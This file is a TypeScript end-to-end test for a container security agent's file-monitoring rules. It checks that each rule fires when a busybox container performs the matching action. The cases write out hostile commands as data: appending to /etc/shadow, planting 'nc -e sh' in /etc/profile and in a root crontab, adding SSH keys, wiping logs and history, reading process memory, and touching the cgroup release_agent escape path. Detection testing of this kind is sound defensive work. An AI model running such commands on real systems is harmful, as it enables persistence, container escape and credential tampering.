import { test } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { SecurityEvent } from '../../src/events/event.js';
import { FILE_RULES_YAML } from '../../src/runtime/rules/default-file-rules.js';
import { agentFixture, withAgent } from '../support/agent-run.js';
import { containerPid, importBusybox, removeContainer, runContainer } from '../support/busybox.js';
import { waitUntil } from '../support/wait.js';

// The file rules (rules/default-file-rules.ts), end to end: real dockerd, real kernel audit.
// For each rule a busybox container's own command does the action once the agent watches it
// (it waits for /tmp/go), and exactly that rule fires among the file rules, with the container,
// image, program and file; a benign container (writes /tmp, reads /etc/hostname, an entrypoint
// script writing /var/log/app.log, chmod +x, a login shell reading ~/.profile) fires none.
// The escape cases run as a privileged container would (CAP_SYS_ADMIN, no seccomp or AppArmor,
// /proc/sys writable; --privileged itself fails on this host, whose bounding set lacks
// CAP_SYS_RESOURCE); they open the kernel's files for writing without writing a byte, so the
// host's settings stay as they were.
// bulwark-test: exclusive (agent: kernel audit state)

const IMAGE = 'bulwark-test/busybox:rules-files';
// the file rules, and the base rule for writes to credential files (which they leave to it)
const FILE_RULES = [...[...FILE_RULES_YAML.matchAll(/^- rule: (.+)$/gm)].map((m) => m[1]!), 'Sensitive file written'];
const WAIT = 'until [ -e /tmp/go ]; do sleep 0.05; done; ';
const DONE = '; touch /tmp/done; sleep 300';
const PRIVILEGED = {
  capAdd: ['SYS_ADMIN'],
  securityOpt: ['seccomp=unconfined', 'apparmor=unconfined'],
  unmaskPaths: true,
};

interface Case {
  rule: string;
  script: string;
  path: string | RegExp;
  privileged?: boolean;
  target?: string;
}

const CASES: Case[] = [
  { rule: 'Write below etc', script: 'echo hi > /etc/motd', path: '/etc/motd' },
  { rule: 'Sensitive file written', script: 'echo "x:*:1:0:::::" >> /etc/shadow', path: '/etc/shadow' },
  { rule: 'Write below binary dir', script: 'echo x > /bin/evil', path: '/bin/evil' },
  { rule: 'Mkdir below binary dir', script: 'mkdir /bin/sub', path: '/bin/sub' },
  { rule: 'Shell configuration changed', script: 'echo "nc -e sh x 1" >> /etc/profile', path: '/etc/profile' },
  {
    rule: 'Cron or init persistence',
    script: 'echo "* * * * * nc x 1" > /var/spool/cron/crontabs/root',
    path: '/var/spool/cron/crontabs/root',
  },
  {
    rule: 'SSH authorized keys changed',
    script: 'echo ssh-ed25519 AAAA >> /home/app/.ssh/authorized_keys',
    path: '/home/app/.ssh/authorized_keys',
  },
  { rule: 'Set-id bit set', script: 'echo > /tmp/x; chmod 4755 /tmp/x', path: '/tmp/x' },
  { rule: 'Shell history deleted', script: 'busybox rm /root/.ash_history', path: '/root/.ash_history' },
  { rule: 'Log cleared', script: ': > /var/log/messages', path: '/var/log/messages' },
  {
    rule: 'Symlink to sensitive file',
    script: 'busybox ln -s /etc/shadow /tmp/s',
    path: '/tmp/s',
    target: '/etc/shadow',
  },
  {
    rule: 'Process environment read',
    script: 'sleep 300 & cat /proc/$!/environ > /dev/null',
    path: /^\/proc\/\d+\/environ$/,
  },
  { rule: 'Process memory read', script: 'sleep 300 & head -c 1 /proc/$!/mem 2>/dev/null', path: /^\/proc\/\d+\/mem$/ },
  {
    rule: 'Container escape via release_agent',
    script: 'mkdir /tmp/cg && busybox mount -t cgroup -o memory cgroup /tmp/cg && : >> /tmp/cg/release_agent',
    path: '/tmp/cg/release_agent',
    privileged: true,
  },
  {
    rule: 'Kernel core_pattern changed',
    script: ': >> /proc/sys/kernel/core_pattern',
    path: '/proc/sys/kernel/core_pattern',
    privileged: true,
  },
  {
    rule: 'Kernel parameter changed',
    script: ': >> /proc/sys/vm/swappiness',
    path: '/proc/sys/vm/swappiness',
    privileged: true,
  },
];

const BENIGN = [
  'echo x > /tmp/x',
  'cat /etc/hostname > /dev/null',
  'printf "#!/bin/sh\\necho started > /var/log/app.log\\necho more >> /var/log/app.log\\n" > /tmp/run.sh',
  'chmod +x /tmp/run.sh',
  '/tmp/run.sh',
  'HOME=/home/app sh -l -c true',
  'cat /proc/self/environ > /dev/null',
].join('; ');

const fixture = agentFixture({}, [IMAGE], async () => {
  // the directories a system image has (each watched when the container starts)
  const file = (s: string): Buffer => Buffer.from(s);
  await importBusybox('bulwark-test/busybox', 'rules-files', [], {
    'root/.ash_history': file('ls\n'),
    'home/app/.profile': file('export PS1=app\n'),
    'home/app/.ssh/known_hosts': file(''),
    'var/log/messages': file('boot\n'),
    'var/spool/cron/crontabs/.keep': file(''),
  });
});

test('each file rule fires for its action in a container, and a benign container fires none', async (t) => {
  if (!(await fixture.gate(t))) return;
  const ids = new Map<string, string>(); // rule (or "benign") → container id
  try {
    // every start settles before any failure is thrown: the finally removes them all
    const started = await Promise.allSettled(
      [...CASES, { rule: 'benign', script: BENIGN }].map(async (c, i) => {
        const id = await runContainer(IMAGE, ['sh', '-c', WAIT + c.script + DONE], {
          name: `rules-files-${i}`,
          ...('privileged' in c && c.privileged ? PRIVILEGED : {}),
        });
        ids.set(c.rule, id);
      }),
    );
    for (const r of started) if (r.status === 'rejected') throw r.reason;
    const pids = new Map<string, number>();
    for (const [rule, id] of ids) pids.set(rule, await containerPid(id));
    await withAgent(join(fixture.dir(), 'state'), { forkGuard: false }, async (events) => {
      const ofContainer = (id: string): SecurityEvent[] =>
        events.filter((e) => e.container?.id === id && FILE_RULES.includes(e.rule));
      for (const pid of pids.values()) touchGo(pid);
      await waitUntil(
        'every container done',
        () => [...pids.values()].every((p) => existsSync(`/proc/${p}/root/tmp/done`)),
        { timeoutMs: 20_000 },
      );
      // all cases looked at before failing: one run says which rules do not work
      const wrong: string[] = [];
      for (const c of CASES) {
        const id = ids.get(c.rule)!;
        await waitUntil(`"${c.rule}" reported`, () => ofContainer(id).length > 0, { timeoutMs: 3000 }).catch(
          () => undefined,
        );
        const got = ofContainer(id);
        const e = got[0];
        const path = e?.file?.path ?? '';
        const seen = {
          rules: [...new Set(got.map((x) => x.rule))],
          image: e?.container?.image,
          exe: e?.process?.exe,
          path: typeof c.path === 'string' || !c.path.test(path) ? path : c.path,
          target: e?.fields?.target,
        };
        const want = { rules: [c.rule], image: IMAGE, exe: '/bin/busybox', path: c.path, target: c.target };
        try {
          assert.deepEqual(seen, want);
        } catch {
          wrong.push(`${c.rule}: ${JSON.stringify(seen)}`);
        }
      }
      assert.deepEqual(wrong, []);
      // the benign container's records were read along with the others (it finished first)
      assert.deepEqual(
        ofContainer(ids.get('benign')!).map((e) => `${e.rule}: ${e.message}`),
        [],
      );
    });
  } finally {
    await Promise.all([...ids.values()].map((id) => removeContainer(id).catch(() => undefined)));
  }
});

function touchGo(pid: number): void {
  writeFileSync(`/proc/${pid}/root/tmp/go`, '');
}
